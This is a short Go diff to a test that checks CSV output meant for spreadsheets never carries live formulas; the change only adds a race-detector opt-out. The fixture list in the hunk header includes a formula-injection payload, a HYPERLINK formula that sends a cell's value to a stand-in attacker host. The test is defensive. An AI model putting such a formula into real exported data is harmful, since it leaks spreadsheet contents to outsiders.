@@ -21,6 +21,7 @@ var formulas = []string{`=HYPERLINK("https://evil.example/?"&A1,"PyTorch")`, "+1
 // TestFormulasInCSV: in the file that is meant for a spreadsheet no text is a formula,
 // and programs get every text as it is.
 func TestFormulasInCSV(t *testing.T) {
+	suite.WithoutRace(t)
 	content, dir := t.TempDir(), t.TempDir()
 	writeContent(t, content, 3, 0)
 	for i, name := range formulas {
